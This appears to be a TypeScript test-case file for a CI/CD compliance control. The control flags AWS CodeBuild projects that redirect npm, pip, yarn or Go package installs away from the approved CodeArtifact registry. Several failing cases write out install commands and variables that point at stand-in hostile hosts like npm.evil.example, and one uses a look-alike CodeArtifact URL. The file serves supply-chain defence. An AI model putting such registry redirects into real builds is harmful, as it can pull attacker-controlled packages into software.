import { defineCases } from '../../helpers/cases';
import { ACCOUNT, CODEARTIFACT_NPM, project, spec, withBuildSpec, withEnv } from './project';

const vars = (...v: Array<Record<string, unknown>>) => withEnv({ EnvironmentVariables: v });

export default defineCases({
  controlId: 'CICD.CODEBUILD.14',
  resourceType: 'AWS::CodeBuild::Project',
  cases: [
    { name: 'no variables, buildspec file path (missing inline buildspec)', absent: ['Environment.EnvironmentVariables'], properties: project(), expect: 'PASS' },
    { name: 'plain npm ci / pip install without a redirect', properties: withBuildSpec(spec({ install: ['npm install -g aws-cdk@2', 'npm ci', 'pip install -r requirements.txt'] })), expect: 'PASS' },
    { name: 'NPM_CONFIG_REGISTRY to CodeArtifact of this account', properties: vars({ Name: 'NPM_CONFIG_REGISTRY', Value: CODEARTIFACT_NPM }), expect: 'PASS' },
    {
      name: 'hardened CDK buildspec: codeartifact login and registry variable',
      properties: withBuildSpec(spec({ install: [`aws codeartifact login --tool npm --domain acme --domain-owner ${ACCOUNT} --repository internal`, 'npm ci'] }, { variables: { NPM_CONFIG_REGISTRY: CODEARTIFACT_NPM } })),
      expect: 'PASS',
    },
    { name: 'registry through a variable defined by the project', properties: withBuildSpec(spec({ install: ['npm ci --registry "$REG"'] }), { Environment: { Type: 'LINUX_CONTAINER', ComputeType: 'BUILD_GENERAL1_SMALL', Image: 'aws/codebuild/standard:7.0', EnvironmentVariables: [{ Name: 'REG', Value: CODEARTIFACT_NPM }] } }), expect: 'PASS' },
    { name: 'NPM_CONFIG_REGISTRY to the public registry', properties: vars({ Name: 'NPM_CONFIG_REGISTRY', Value: 'https://registry.npmjs.org/' }), expect: 'FAIL', messageIncludes: ['EnvironmentVariables[0]', 'NPM_CONFIG_REGISTRY', 'registry.npmjs.org'] },
    { name: 'lower-case npm_config_registry', properties: vars({ Name: 'npm_config_registry', Value: 'https://npm.evil.example/' }), expect: 'FAIL', messageIncludes: 'npm_config_registry' },
    { name: 'GOPROXY=direct', properties: vars({ Name: 'GOPROXY', Value: 'direct' }), expect: 'FAIL', messageIncludes: 'GOPROXY' },
    { name: 'PIP_EXTRA_INDEX_URL adds a public index', properties: vars({ Name: 'PIP_EXTRA_INDEX_URL', Value: 'https://pypi.org/simple' }), expect: 'FAIL', messageIncludes: 'PIP_EXTRA_INDEX_URL' },
    { name: 'registry variable from Parameter Store', properties: vars({ Name: 'PIP_INDEX_URL', Value: '/ci/pip-index', Type: 'PARAMETER_STORE' }), expect: 'FAIL', messageIncludes: 'cannot verify' },
    { name: 'npm --registry in a command', properties: withBuildSpec(spec({ install: ['npm ci --registry https://npm.evil.example/'] })), expect: 'FAIL', messageIncludes: ['phases.install.commands[0]', '--registry', 'npm.evil.example'] },
    { name: 'pip -i', properties: withBuildSpec(spec({ install: ['pip install -i https://pypi.evil.example/simple requests'] })), expect: 'FAIL', messageIncludes: 'pip -i' },
    { name: 'pip --extra-index-url', properties: withBuildSpec(spec({ install: ['pip install --extra-index-url=https://pypi.org/simple internal-lib'] })), expect: 'FAIL', messageIncludes: '--extra-index-url' },
    { name: 'npm config set registry', properties: withBuildSpec(spec({ pre_build: ['npm config set registry https://registry.npmjs.org/'] })), expect: 'FAIL', messageIncludes: 'npm config set registry' },
    { name: 'yarn config set', properties: withBuildSpec(spec({ pre_build: ['yarn config set registry https://registry.yarnpkg.com'] })), expect: 'FAIL', messageIncludes: 'yarn config set registry' },
    { name: 'pip config set global.index-url', properties: withBuildSpec(spec({ pre_build: ['pip config set global.index-url https://pypi.org/simple'] })), expect: 'FAIL', messageIncludes: 'global.index-url' },
    { name: 'NPM_CONFIG_REGISTRY= prefix on a command', properties: withBuildSpec(spec({ build: ['NPM_CONFIG_REGISTRY=https://npm.evil.example npm ci'] })), expect: 'FAIL', messageIncludes: 'NPM_CONFIG_REGISTRY=' },
    { name: 'GOPROXY in buildspec env.variables', properties: withBuildSpec(spec({ build: ['go build ./...'] }, { variables: { GOPROXY: 'https://proxy.golang.org,direct' } })), expect: 'FAIL', messageIncludes: 'env.variables.GOPROXY' },
    { name: 'codeartifact login to another account', properties: withBuildSpec(spec({ install: ['aws codeartifact login --tool npm --domain acme --domain-owner 999999999999 --repository internal'] })), expect: 'FAIL', messageIncludes: 'aws codeartifact login' },
    { name: 'registry from an unknown variable', properties: withBuildSpec(spec({ install: ['npm ci --registry $SOMEWHERE'] })), expect: 'FAIL', messageIncludes: 'cannot resolve' },
    { name: 'look-alike CodeArtifact URL', properties: vars({ Name: 'NPM_CONFIG_REGISTRY', Value: `https://evil.example/acme-${ACCOUNT}.d.codeartifact.eu-west-1.amazonaws.com/npm/internal/` }), expect: 'FAIL' },
    { name: 'inline buildspec that does not parse', properties: withBuildSpec('{"version": "0.2", "phases": '), expect: 'FAIL', messageIncludes: 'does not parse' },
    {
      name: 'platform allows an internal Artifactory',
      properties: withBuildSpec(spec({ install: ['npm ci --registry https://artifactory.acme.example/api/npm/npm/'] })),
      config: { AllowedPackageRegistries: ['https://artifactory.acme.example/api/npm/*'] },
      expect: 'PASS',
    },
  ],
});
